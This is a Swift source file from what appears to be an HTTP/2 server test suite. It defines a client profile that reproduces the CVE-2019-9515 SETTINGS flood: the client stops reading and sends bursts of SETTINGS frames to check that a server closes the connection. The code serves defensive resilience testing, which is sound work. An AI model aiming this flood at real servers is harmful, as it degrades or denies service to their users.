// SPDX-License-Identifier: Apache-2.0

/// Sends SETTINGS without end and reads nothing, so that their acknowledgements pile up.
///
/// A good server queues a bounded number of replies, then stops to read from the connection (CVE-2019-9515); others do not notice. Once
/// its socket has taken nothing for the stall deadline it closes the connection.
public struct SettingsFloodUnreadClient: ClientProfile {
    /// The profile's name.
    public static let name = "settingsFloodUnread"

    /// Its calls.
    public var session: ClientSession
    private let burst: Int
    private let interval: Duration

    /// Bytes in the client's own hands above which it waits for its kernel.
    private static let mostUnsentBytes = 64 * 1024

    /// Makes a client that makes one call once the handshake is done, reads nothing more, and then sends that many frames in each interval.
    public init(_ call: ClientCall, burst: Int = 100, every interval: Duration = .seconds(1)) {
        session = ClientSession(call)
        self.burst = burst
        self.interval = interval
    }

    /// Answers a fact.
    public mutating func handle(_ fact: ClientFact, _ client: inout ClientCommands) {
        switch fact {
        case .connected:
            session.open(&client)
        case .timer:
            if client.unsentBytes <= Self.mostUnsentBytes {
                client.send(Array(repeatElement(RawFrame.settings().bytes, count: burst).joined()))
            }
            client.setTimer(after: interval)
        default:
            _ = session.keepHouse(fact, &client)
            guard session.completesHandshake(fact), session.callsBegun == 0 else { return }
            session.begin(&client)
            client.stopReading()
            client.setTimer(after: interval)
        }
    }
}
